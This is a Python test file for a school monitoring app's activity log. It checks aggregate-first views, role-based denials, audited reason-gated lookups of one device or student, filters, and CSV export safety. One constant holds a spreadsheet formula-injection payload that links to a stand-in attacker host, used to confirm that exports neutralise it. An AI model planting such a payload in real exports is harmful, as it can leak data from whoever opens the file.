"""The activity log (issue 7): administrators see aggregates first; one device's or person's events only with
a stated reason, which is audited; CSV exports are audited and safe to open in a spreadsheet.

The real review application (waitress) over a real ClickHouse database (the activity_hourly rollup is filled
by ClickHouse's own materialized view); requests come from httpx.
"""

from __future__ import annotations

import csv
import datetime
import io

from support.review_site import NORTH, SOUTH, csrf_token

DAY0 = (datetime.datetime.now(datetime.UTC) - datetime.timedelta(days=3)).replace(
    hour=0, minute=0, second=0, microsecond=0)
DAY1 = DAY0 + datetime.timedelta(days=1)
RANGE = {"since": DAY0.strftime("%Y-%m-%d"), "until": DAY1.strftime("%Y-%m-%d")}  # both whole days
TABLET, LAPTOP, PHONE, OLD = "10.1.0.21", "10.2.0.22", "10.1.0.23", "10.1.0.24"
STUDENT = "u-1001"
FORMULA_SCHOOL = '=HYPERLINK("http://evil.example/?leak","click")'


def at(day: datetime.datetime, hour: int, minute: int = 0) -> datetime.datetime:
    return day.replace(hour=hour, minute=minute)


def seed(site) -> str:
    """Activity on two days, two schools, two platforms; one flagged comment of a known person. The flag id."""
    for minute in (10, 20):
        site.activity(device=TABLET, when=at(DAY0, 9, minute), platform="tiktok", action="view", school=NORTH)
    site.activity(device=TABLET, when=at(DAY0, 10, 5), platform="tiktok", action="view", school=NORTH)
    site.activity(device=LAPTOP, when=at(DAY0, 9, 30), platform="instagram", action="like", school=SOUTH)
    site.activity(device=TABLET, when=at(DAY1, 8), platform="tiktok", action="view", school=NORTH)
    site.activity(device=OLD, when=at(DAY0 - datetime.timedelta(days=2), 8), platform="tiktok", school=NORTH)
    return site.seed("nobody likes you", school=NORTH, device=PHONE, person=STUDENT, platform="instagram",
                     action="comment", when=at(DAY0, 11))


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.text)))


def aggregate(client, **args) -> set[tuple]:
    """The aggregate CSV as a set of (period, school, platform, action, events, flagged)."""
    rows = csv_rows(client.get("/activity.csv", params={**RANGE, **args}))
    assert rows[0] == [args.get("per", "day"), "school", "platform", "action", "events", "flagged"]
    return {tuple(row[:4]) + (int(row[4]), int(row[5])) for row in rows[1:]}


def test_administrators_see_aggregates_without_any_device_or_person(site):
    seed(site)
    admin = site.client("admin")
    page = admin.get("/activity", params=RANGE)
    assert page.status_code == 200
    day0 = DAY0.strftime("%Y-%m-%d")
    for text in ("tiktok", "instagram", NORTH, SOUTH, day0, ">6</b> requests", ">1</b> flagged"):
        assert text in page.text, text
    pseudonym = site.pseudonyms.of(STUDENT)
    for identifying in (TABLET, LAPTOP, PHONE, OLD, pseudonym, STUDENT):
        assert identifying not in page.text
    assert 'href="/activity"' in page.text, "administrators have the Activity link"
    assert "Content-Security-Policy" in page.headers and "<script" not in page.text and "style=" not in page.text
    assert site.audit("admin", "view_activity"), "viewing the aggregates is audited"

    per_day = aggregate(admin)
    assert per_day == {
        (day0, NORTH, "tiktok", "view", 3, 0),
        (day0, SOUTH, "instagram", "like", 1, 0),
        (day0, NORTH, "instagram", "comment", 1, 1),
        (DAY1.strftime("%Y-%m-%d"), NORTH, "tiktok", "view", 1, 0),
    }
    per_hour = aggregate(admin, per="hour")
    assert (f"{day0} 09:00", NORTH, "tiktok", "view", 2, 0) in per_hour
    assert (f"{day0} 10:00", NORTH, "tiktok", "view", 1, 0) in per_hour
    assert len(per_hour) == 5
    export = admin.get("/activity.csv", params=RANGE).text
    for identifying in (TABLET, LAPTOP, PHONE, pseudonym):
        assert identifying not in export
    assert site.audit("admin", "export_activity")


def test_counselors_and_it_cannot_open_the_activity_log(site):
    seed(site)
    for username in ("north", "itstaff"):
        client = site.client(username)
        token = csrf_token(client, "/queue" if username == "north" else "/health")
        assert 'href="/activity"' not in client.get("/queue" if username == "north" else "/health").text
        assert client.get("/activity", params=RANGE).status_code == 403
        assert client.get("/activity.csv", params=RANGE).status_code == 403
        for path in ("/activity/rows", "/activity/rows.csv"):
            response = client.post(path, data={"csrf_token": token, "device": TABLET,
                                               "reason": "checking a safety concern", **RANGE})
            assert response.status_code == 403, (username, path)
            assert TABLET not in response.text
    assert site.store.query("SELECT count() AS n FROM {database}.audit_log WHERE action LIKE '%activity%'") \
        == [{"n": 0}]
    anonymous = site.client().get("/activity")
    assert anonymous.status_code == 302 and anonymous.headers["location"].startswith("/sign-in")


def test_one_device_or_persons_events_need_a_reason_which_is_audited(site):
    seed(site)
    admin = site.client("admin")
    token = csrf_token(admin, "/activity")
    for form in ({"device": TABLET, "reason": "too short"}, {"device": TABLET, "reason": "   "},
                 {"device": "", "person": "", "reason": "a good enough reason to look"}):
        refused = admin.post("/activity/rows", data={"csrf_token": token, **RANGE, **form})
        assert refused.status_code == 302 and refused.headers["location"].startswith("/activity")
        assert admin.post("/activity/rows.csv", data={"csrf_token": token, **RANGE, **form}).status_code == 302
    assert site.audit("admin", "view_activity_rows") == [] and site.audit("admin", "export_activity_rows") == []
    told = admin.get("/activity").text
    assert "at least 10 characters" in told and "Give the device address" in told

    reason = "Parent reported late-night use; checking the tablet"
    shown = admin.post("/activity/rows", data={"csrf_token": token, "device": TABLET, "reason": reason, **RANGE})
    assert shown.status_code == 200
    assert shown.text.count(f"<td>{TABLET}</td>") == 4, "the tablet's four events of the two days"
    assert LAPTOP not in shown.text and OLD not in shown.text
    assert "Parent reported late-night use" in shown.text
    [entry] = site.audit("admin", "view_activity_rows")
    assert entry["object"] == f"device {TABLET}"
    assert entry["detail"].endswith(": " + reason) and "4 events" in entry["detail"]

    # Newest first, exactly the device, filters apply.
    rows = csv_rows(admin.post("/activity/rows.csv", data={
        "csrf_token": token, "device": TABLET, "reason": reason, "platform": "tiktok", **RANGE}))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["time", "device", "person"] and "path" not in header and "target" not in header
    assert [row[0] for row in body] == [at(DAY1, 8).strftime("%Y-%m-%d %H:%M:%S"),
                                        at(DAY0, 10, 5).strftime("%Y-%m-%d %H:%M:%S"),
                                        at(DAY0, 9, 20).strftime("%Y-%m-%d %H:%M:%S"),
                                        at(DAY0, 9, 10).strftime("%Y-%m-%d %H:%M:%S")]
    assert {row[1] for row in body} == {TABLET}
    [export] = site.audit("admin", "export_activity_rows")
    assert export["detail"].endswith(": " + reason) and "platform=tiktok" in export["detail"]

    # A person, by pseudonymous id.
    pseudonym = site.pseudonyms.of(STUDENT)
    by_person = admin.post("/activity/rows", data={"csrf_token": token, "person": pseudonym,
                                                   "reason": "Following up the bullying flag", **RANGE})
    assert by_person.status_code == 200
    assert by_person.text.count(f"<td>{pseudonym}</td>") == 1 and f"<td>{PHONE}</td>" in by_person.text
    assert TABLET not in by_person.text
    assert {e["object"] for e in site.audit("admin", "view_activity_rows")} == {f"device {TABLET}",
                                                                             f"person {pseudonym}"}


def test_exports_neutralize_spreadsheet_formulas(site):
    site.activity(device=TABLET, when=at(DAY0, 12), platform="tiktok", action="view", school=FORMULA_SCHOOL)
    admin = site.client("admin")
    rows = csv_rows(admin.get("/activity.csv", params=RANGE))
    assert rows[1][1] == "'" + FORMULA_SCHOOL
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    token = csrf_token(admin, "/activity")
    events = csv_rows(admin.post("/activity/rows.csv", data={"csrf_token": token, "device": TABLET,
                                                             "reason": "checking an odd school name", **RANGE}))
    assert events[1][3] == "'" + FORMULA_SCHOOL
    page = admin.get("/activity", params=RANGE).text
    assert FORMULA_SCHOOL not in page and "=HYPERLINK(&#34;http://evil.example/" in page, "escaped in HTML"


FILTERS = [
    ({"school": SOUTH}, ["instagram like 1"]),
    ({"platform": "instagram"}, ["instagram comment 1", "instagram like 1"]),
    ({"action": "view"}, ["tiktok view 1", "tiktok view 3"]),
    ({"school": NORTH, "platform": "tiktok", "per": "hour"}, ["tiktok view 1", "tiktok view 1", "tiktok view 2"]),
    ({"since": at(DAY0, 10).strftime("%Y-%m-%dT%H:%M"), "until": at(DAY0, 11).strftime("%Y-%m-%dT%H:%M"),
      "per": "hour"}, ["tiktok view 1"]),
    ({"since": DAY1.strftime("%Y-%m-%d"), "until": DAY1.strftime("%Y-%m-%d")}, ["tiktok view 1"]),
    ({"since": (DAY0 - datetime.timedelta(days=2)).strftime("%Y-%m-%d")},
     ["instagram comment 1", "instagram like 1", "tiktok view 1", "tiktok view 1", "tiktok view 3"]),
]


def test_filters_by_school_platform_action_and_time_range(site):
    seed(site)
    admin = site.client("admin")
    for args, expected in FILTERS:
        rows = aggregate(admin, **args)
        seen = sorted(f"{platform} {action} {events}" for _period, _school, platform, action, events, _f in rows)
        assert seen == expected, args
        if "school" in args:
            assert {school for _p, school, *_ in rows} == {args["school"]}
    page = admin.get("/activity", params={"school": SOUTH, **RANGE}).text
    assert "instagram" in page and "<td>tiktok</td>" not in page and f"<td>{NORTH}</td>" not in page


def test_a_time_range_that_is_not_a_date_is_refused(site):
    admin = site.client("admin")
    assert admin.get("/activity", params={"since": "yesterday"}).status_code == 400
    assert admin.get("/activity.csv", params={"until": "2026-13-40"}).status_code == 400
